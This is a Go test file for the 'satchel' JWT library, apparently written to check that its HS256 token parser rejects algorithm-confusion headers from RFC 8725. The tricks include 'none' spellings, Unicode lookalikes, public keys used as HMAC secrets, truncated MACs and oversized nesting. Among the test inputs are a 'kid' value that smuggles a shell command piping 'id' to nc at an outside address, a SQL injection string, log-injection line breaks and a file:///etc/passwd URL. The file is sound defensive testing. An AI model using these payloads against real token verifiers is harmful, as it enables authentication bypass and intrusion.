package token_test

import (
	"crypto/hmac"
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/satchel-go/satchel/internal/token"
)

// algorithmGames are headers that have talked some library into another algorithm or
// another key (RFC 8725 section 2). want is what happens to one that a holder of the key
// has signed as HS256; header_test.go has the plainer ones.
var algorithmGames = []struct {
	name, header string
	want         error
}{
	// The algorithm.
	{"none with a capital", `{"alg":"None"}`, token.ErrAlgorithm},
	{"none in capitals", `{"alg":"NONE"}`, token.ErrAlgorithm},
	{"none in both", `{"alg":"nOnE"}`, token.ErrAlgorithm},
	{"none behind a space", `{"alg":" none"}`, token.ErrAlgorithm},
	{"none in full-width letters", `{"alg":"ｎｏｎｅ"}`, token.ErrAlgorithm},
	{"HS256 in full-width digits", `{"alg":"HS２５６"}`, token.ErrAlgorithm},
	{"HS256 with a Cyrillic letter", `{"alg":"НS256"}`, token.ErrAlgorithm},
	{"HS256 and a zero byte", `{"alg":"HS256\u0000"}`, token.ErrAlgorithm},
	{"HS256 and an invisible space", `{"alg":"HS256\u200b"}`, token.ErrAlgorithm},
	{"HS256 behind a byte order mark", `{"alg":"\ufeffHS256"}`, token.ErrAlgorithm},
	{"HS256 in small letters", `{"alg":"hs256"}`, token.ErrAlgorithm},
	{"HS256 in both", `{"alg":"hS256"}`, token.ErrAlgorithm},
	{"HS256 with one more digit", `{"alg":"HS2560"}`, token.ErrAlgorithm},
	{"a list of algorithms as text", `{"alg":"none,HS256"}`, token.ErrAlgorithm},
	{"HS384", `{"alg":"HS384"}`, token.ErrAlgorithm},
	{"HS512", `{"alg":"HS512"}`, token.ErrAlgorithm},
	{"HS1", `{"alg":"HS1"}`, token.ErrAlgorithm},
	{"HMACSHA256", `{"alg":"HMACSHA256"}`, token.ErrAlgorithm},
	{"RS256", `{"alg":"RS256","typ":"JWT"}`, token.ErrAlgorithm},
	{"PS256", `{"alg":"PS256"}`, token.ErrAlgorithm},
	{"ES256, for which zeros once were a signature", `{"alg":"ES256"}`, token.ErrAlgorithm},
	{"EdDSA", `{"alg":"EdDSA"}`, token.ErrAlgorithm},
	{"key wrapping, for which the key is a password", `{"alg":"PBES2-HS256+A128KW","p2c":2147483647,"p2s":"AA","enc":"A128GCM"}`, token.ErrAlgorithm},
	{"encryption with the key itself", `{"alg":"dir","enc":"A256GCM"}`, token.ErrAlgorithm},
	{"the first letter escaped", `{"alg":"\u0048S256"}`, nil},
	{"every letter escaped", `{"\u0061\u006c\u0067":"\u0048\u0053\u0032\u0035\u0036"}`, nil},
	{"an escaped solidus for nothing", `{"alg":"HS256","typ":"application\/jwt"}`, nil},
	{"none, escaped", `{"alg":"\u006eone"}`, token.ErrAlgorithm},
	{"true", `{"alg":true}`, token.ErrMalformed},
	{"an object with the name inside", `{"alg":{"alg":"HS256"}}`, token.ErrMalformed},
	{"a list of two", `{"alg":["none","HS256"]}`, token.ErrMalformed},
	{"a number", `{"alg":256}`, token.ErrMalformed},
	{"twice, one of them not a text", `{"alg":"HS256","alg":null}`, token.ErrMalformed},
	{"twice, the name escaped in the second", `{"alg":"HS256","al\u0067":"none"}`, token.ErrMalformed},
	{"the name with a space behind", `{"alg ":"HS256"}`, token.ErrAlgorithm},

	// The key. No member chooses one: they are passed over, and nothing is fetched.
	{"kid that leads to an empty file", `{"alg":"HS256","kid":"../../../../dev/null"}`, nil},
	{"kid that is a query", `{"alg":"HS256","kid":"x' UNION SELECT 'key' --"}`, nil},
	{"kid that is a command", `{"alg":"HS256","kid":"key; id | nc 192.0.2.1 80"}`, nil},
	{"kid with line breaks for a log", `{"alg":"HS256","kid":"1\r\nlevel=ERROR msg=\"\u001b[31m\""}`, nil},
	{"kid that is a number", `{"alg":"HS256","kid":1}`, nil},
	{"kid that is null", `{"alg":"HS256","kid":null}`, nil},
	{"kid that is a secret", `{"alg":"HS256","kid":"` + older + `"}`, nil},
	{"kid twice", `{"alg":"HS256","kid":"1","kid":"1"}`, token.ErrMalformed},
	{"jku, a set of keys elsewhere", `{"alg":"HS256","jku":"http://127.0.0.1:1/keys.json"}`, nil},
	{"jku of a file", `{"alg":"HS256","jku":"file:///etc/passwd"}`, nil},
	{"jwk, a key of its own", `{"alg":"HS256","jwk":{"kty":"oct","alg":"HS256","k":"YXR0YWNrZXJzLWtleS1vZi0zMi1ieXRlcy0xMjM0NTY"}}`, nil},
	{"jwk that is no object", `{"alg":"HS256","jwk":"none"}`, nil},
	{"x5u, a certificate elsewhere", `{"alg":"HS256","x5u":"http://127.0.0.1:1/cert.pem"}`, nil},
	{"x5c, a certificate of its own", `{"alg":"HS256","x5c":["MIIB"]}`, nil},
	{"x5t of nothing", `{"alg":"HS256","x5t":"","x5t#S256":""}`, nil},

	// What it is.
	{"typ of an access token", `{"alg":"HS256","typ":"at+jwt"}`, nil},
	{"typ of an encrypted token", `{"alg":"HS256","typ":"JWE"}`, nil},
	{"typ that is a number", `{"alg":"HS256","typ":0}`, nil},
	{"typ twice", `{"typ":"JWT","alg":"HS256","typ":"JWT"}`, token.ErrMalformed},
	{"cty of a token within", `{"alg":"HS256","cty":"JWT"}`, nil},
	{"cty of a serialized object", `{"alg":"HS256","cty":"application/x-java-serialized-object"}`, nil},
	{"enc beside a signature", `{"alg":"HS256","enc":"A256GCM"}`, nil},
	{"iterations for hours", `{"alg":"HS256","p2c":1e308}`, nil},
	{"claims in the header", `{"alg":"HS256","exp":0,"data":{"user":"root"}}`, nil},

	// Extensions.
	{"crit of what is there", `{"alg":"HS256","crit":["kid"],"kid":"1"}`, token.ErrMalformed},
	{"crit of what is not there", `{"alg":"HS256","crit":["http://example.com/x"]}`, token.ErrMalformed},
	{"crit that is null", `{"alg":"HS256","crit":null}`, token.ErrMalformed},
	{"crit that is text", `{"alg":"HS256","crit":"b64"}`, token.ErrMalformed},
	{"crit, escaped", `{"alg":"HS256","\u0063rit":["b64"]}`, token.ErrMalformed},
	{"crit in another case is another member", `{"alg":"HS256","Crit":["b64"]}`, nil},
	{"crit in another member", `{"alg":"HS256","x":{"crit":["b64"]}}`, nil},
	{"a payload not encoded, rightly said", `{"alg":"HS256","b64":false,"crit":["b64"]}`, token.ErrMalformed},
	{"a payload said not to be encoded, and encoded", `{"alg":"HS256","b64":false}`, nil},
	{"compression", `{"alg":"HS256","zip":"DEF"}`, token.ErrMalformed},
	{"compression of no kind", `{"alg":"HS256","zip":null}`, token.ErrMalformed},
	{"compression in another case is another member", `{"alg":"HS256","ZIP":"DEF"}`, nil},

	// Size and depth.
	{"a thousand lists deep", `{"alg":"HS256","x":` + strings.Repeat("[", 1000) + strings.Repeat("]", 1000) + `}`, nil},
	{"ten thousand lists deep", `{"alg":"HS256","x":` + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000) + `}`, token.ErrMalformed},
	{"lists that do not end", `{"alg":"HS256","x":` + strings.Repeat("[", 10_000), token.ErrMalformed},
	{"a thousand members", manyMembers(1000) + `"alg":"HS256"}`, nil},
	{"a thousand members, the first again in the end", manyMembers(1000) + `"alg":"HS256","m0":1}`, token.ErrMalformed},
	{"a megabyte of algorithm", `{"alg":"` + strings.Repeat("HS256", 200_000) + `"}`, token.ErrAlgorithm},
}

func manyMembers(count int) string {
	var text strings.Builder
	text.WriteString("{")
	for i := range count {
		fmt.Fprintf(&text, `"m%d":%d,`, i, i)
	}
	return text.String()
}

func TestAlgorithmGamesOfAHolderOfTheKey(t *testing.T) {
	format := newJWT(t, token.HS256, secret, older)
	for _, test := range algorithmGames {
		t.Run(test.name, func(t *testing.T) {
			text := sign(test.header, bobs)
			if test.want != nil {
				refused(t, format, text, test.want)
			} else if got := mustParse(t, format, text); !slices.Equal(got.Pairs, pairs("user", "bob")) || got.KeyID != format.SigningKeyID() {
				t.Errorf("read as %+v", got)
			}
		})
	}
}

// Without the key each of them is one and the same refusal, whatever the header says;
// headers that common writers make for another algorithm are told apart for the operator.
func TestAlgorithmGamesOfAnybodyElse(t *testing.T) {
	known := []string{`{"alg":"HS384"}`, `{"alg":"HS512"}`}
	for _, test := range algorithmGames {
		want := token.ErrSignature
		if slices.Contains(known, test.header) {
			want = token.ErrAlgorithm
		}
		signed := encode(test.header) + "." + encode(bobs)
		for _, key := range append([]string{"", unknown, "\x00", encode(secret), "YXR0YWNrZXJzLWtleS1vZi0zMi1ieXRlcy0xMjM0NTY",
			"attackers-key-of-32-bytes-123456"}, publicTexts...) {
			t.Run(fmt.Sprintf("%s, key %.20q", test.name, key), func(t *testing.T) {
				refused(t, newJWT(t, token.HS256, secret, older), sealWith(token.HS256, key, signed), want)
			})
		}
	}
}

// publicTexts are what everybody can read of a public key, which a library that lets the
// header choose takes for the secret (RFC 8725 section 2.1).
var publicTexts = []string{
	"-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n",
	"-----BEGIN PUBLIC KEY-----\r\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\r\n-----END PUBLIC KEY-----",
	`{"kty":"RSA","n":"AQAB","e":"AQAB"}`,
}

// The algorithm that a header names, the one whose MAC stands behind it, and the one that
// is configured, in all combinations, under one key that is long enough for each. Only
// where all three agree there is a token.
func TestAlgorithmsCrossed(t *testing.T) {
	all := []token.Algorithm{token.HS256, token.HS384, token.HS512}
	for _, configured := range all {
		for _, named := range append(slices.Clone(all), "none", "RS256", "") {
			for _, computed := range all {
				t.Run(fmt.Sprintf("%q named, %s computed, read as %s", named, computed, configured), func(t *testing.T) {
					format := newJWT(t, configured, longSecret)
					text := sealWith(computed, longSecret, encode(`{"alg":"`+string(named)+`"}`)+"."+encode(bobs))
					if named == configured && computed == configured {
						mustParse(t, format, text)
					} else {
						refused(t, format, text, token.ErrAlgorithm, token.ErrMalformed)
					}
				})
			}
		}
	}
}

// A MAC cut down to the size of another algorithm's is not that one.
func TestTruncatedMACsAreRefused(t *testing.T) {
	sizes := map[token.Algorithm]int{token.HS256: 32, token.HS384: 48, token.HS512: 64}
	for configured := range sizes {
		format := newJWT(t, configured, longSecret)
		signed := encode(`{"alg":"`+string(configured)+`"}`) + "." + encode(bobs)
		for computed, newHash := range jwtHashes {
			whole := mac(newHash, longSecret, signed)
			for size := range len(whole) + 1 {
				if size == sizes[configured] && computed == configured {
					continue
				}
				text := signed + "." + base64.RawURLEncoding.EncodeToString(whole[:size])
				refused(t, format, text, token.ErrSignature, token.ErrMalformed)
			}
		}
	}
}

// HMAC pads a short key with zeros and hashes a long one, so that a key has others with the
// same MACs. Whoever knows one knows the key; that they are equal is no way around the
// least size.
func TestKeysThatHMACCannotTellApart(t *testing.T) {
	long := strings.Repeat(secret, 3) // above the block of 64 bytes
	digest := jwtHashes[token.HS256]()
	digest.Write([]byte(long))
	hashed := string(digest.Sum(nil))
	signed := encode(ownHeader) + "." + encode(bobs)
	for name, same := range map[string]struct{ key, equal string }{
		"zeros behind":          {secret, secret + "\x00\x00"},
		"the digest of the key": {long, hashed},
	} {
		if !hmac.Equal(mac(jwtHashes[token.HS256], same.key, signed), mac(jwtHashes[token.HS256], same.equal, signed)) {
			t.Fatalf("%s: HMAC tells them apart", name)
		}
		mustParse(t, newJWT(t, token.HS256, same.equal), sealWith(token.HS256, same.key, signed))
	}
}

// RFC 7797: the payload as it is, rightly signed. Whatever the header says, it is no
// segment of base64url, and where it is one, it is read as one.
func TestPayloadsThatAreNotEncoded(t *testing.T) {
	format := newJWT(t, token.HS256, secret)
	for name, test := range map[string]struct{ header, payload string }{
		"said, and critical":   {`{"alg":"HS256","b64":false,"crit":["b64"]}`, bobs},
		"said":                 {`{"alg":"HS256","b64":false}`, bobs},
		"not said":             {ownHeader, bobs},
		"detached":             {`{"alg":"HS256","b64":false,"crit":["b64"]}`, ""},
		"empty":                {`{"alg":"HS256","b64":false}`, ""},
		"with dots":            {`{"alg":"HS256","b64":false}`, `{"data":{"user":"b.o.b"}}`},
		"that looks like JSON": {`{"alg":"HS256","b64":false}`, "eyJ9"},
	} {
		t.Run(name, func(t *testing.T) {
			refused(t, format, seal(encode(test.header)+"."+test.payload), token.ErrMalformed)
		})
	}
}
